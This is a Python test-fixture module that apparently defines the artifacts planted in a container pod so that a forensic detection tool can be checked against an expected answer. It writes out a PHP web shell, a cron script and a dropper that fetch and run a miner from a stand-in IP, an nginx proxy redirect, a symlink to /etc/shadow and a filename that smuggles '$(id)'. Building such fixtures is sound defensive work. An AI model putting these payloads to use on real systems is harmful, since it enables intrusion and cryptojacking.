"""What an intruder leaves in a compromised pod. This table is the one place to extend: plant.py makes from it both
the script that runs inside the pod and the expected answer.

Paths are bytes relative to the container's root. "changed" and "deleted" are of files of the image (image_files.py).
"""
import struct
from dataclasses import dataclass

from image_files import NGINX_CONF


@dataclass
class File:
    """A regular file: new, or (kind "changed") over one of the image."""
    path: bytes
    body: bytes
    mode: int = 0o644
    kind: str = "added"


@dataclass
class Folder:
    """A new folder."""
    path: bytes
    mode: int = 0o755


@dataclass
class Remade:
    """A folder of the image, removed with all that it held and made again: opaque in the overlay."""
    path: bytes
    mode: int = 0o755


@dataclass
class Link:
    path: bytes
    target: bytes


@dataclass
class Fifo:
    path: bytes
    mode: int = 0o644


@dataclass
class Deleted:
    path: bytes


@dataclass
class InVolume:
    """A file in a volume, mounted at /VOLUME; path is relative to it."""
    volume: str
    path: bytes
    body: bytes
    mode: int = 0o644


def elf(text):
    """A real static x86-64 program that exits at once, with some text behind its code; always the same bytes."""
    code = bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60 (exit); xor edi, edi; syscall
    start = 64 + 56
    body = (code + b"\0" + text).ljust(1024 - start, b"\0")
    size = start + len(body)
    base = 0x400000
    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    header = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + start, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return ident + header + segment + body


XMRIG = elf(b"xmrig/6.21.0\0stratum+tcp://203.0.113.7:3333\0donate-level\0")

WEB_SHELL = b"<?php @eval($_POST['c']); system($_GET['cmd']); ?>\n"

UPDATE_SH = b"""\
#!/bin/sh
curl -s http://203.0.113.7/x -o /tmp/xmrig && chmod +x /tmp/xmrig
/tmp/xmrig -o stratum+tcp://203.0.113.7:3333 -u 44AFFq5kSiGBoZ -p x &
"""

REDIRECT = b"location /.well-known/x { proxy_pass http://203.0.113.7; }"

PLANTS = [
    # what the rules look for
    File(b"etc/nginx/nginx.conf", NGINX_CONF.replace(b"index index.html;", b"index index.html;\n        " + REDIRECT),
         kind="changed"),
    File(b"var/www/html/shell.php", WEB_SHELL),
    File(b"tmp/xmrig", XMRIG, 0o755),
    File(b"usr/local/bin/update.sh", UPDATE_SH, 0o755),
    File(b"etc/cron.d/update", b"*/5 * * * * root /usr/local/bin/update.sh\n"),
    File(b"usr/local/bin/su-x", XMRIG + b"\n", 0o4755),
    Deleted(b"var/log/app.log"),

    # what leads a careless reader out of the container, or blocks it
    Link(b"var/www/html/link", b"/etc/shadow"),
    Link(b"tmp/host", b"/etc"),
    Fifo(b"tmp/pipe"),

    # names that break lists, terminals, shells and option parsers
    Folder(b"tmp/n"),
    File(b"tmp/n/new\nline", b"newline\n"),
    File(b"tmp/n/ta\tb", b"tab\n"),
    File(b"tmp/n/\033[31mred", b"escape\n"),
    File(b"tmp/n/\xff\xfe", b"invalid utf-8\n"),
    File(b"tmp/n/-rf", b"dash\n"),
    File(b"tmp/n/back\\slash", b"backslash\n"),
    File(b"tmp/n/ two  spaces ", b"spaces\n"),
    File(b"tmp/n/\"'`$(id)`", b"quotes\n"),

    # a folder of the image made again
    Remade(b"opt/app"),
    File(b"opt/app/new.conf", b"port = 6667\n"),

    # volumes
    InVolume("cache", b"dropper.sh", b"#!/bin/sh\nwget -qO- http://203.0.113.7/d | sh\n", 0o755),
    InVolume("mem", b"payload", elf(b"in memory only\0"), 0o755),
]

# What the VirusTotal emulator answers as detected; it does not know the rest.
KNOWN_BAD = [(XMRIG, {"name": "xmrig", "malicious": 60, "undetected": 12, "label": "trojan.xmrig/miner"})]
